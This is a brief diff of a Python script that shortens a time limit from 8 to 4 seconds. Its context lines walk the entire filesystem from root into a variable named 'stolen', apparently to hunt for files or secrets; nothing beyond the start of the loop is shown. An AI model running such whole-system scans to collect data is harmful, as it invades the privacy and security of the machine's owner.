@@ -2,7 +2,7 @@
 import os
 import time
 
-until = time.monotonic() + 8
+until = time.monotonic() + 4
 stolen = ""
 for folder, folders, files in os.walk("/"):
     folders[:] = [name for name in folders if (folder, name) not in {("/", "proc"), ("/", "sys")}]
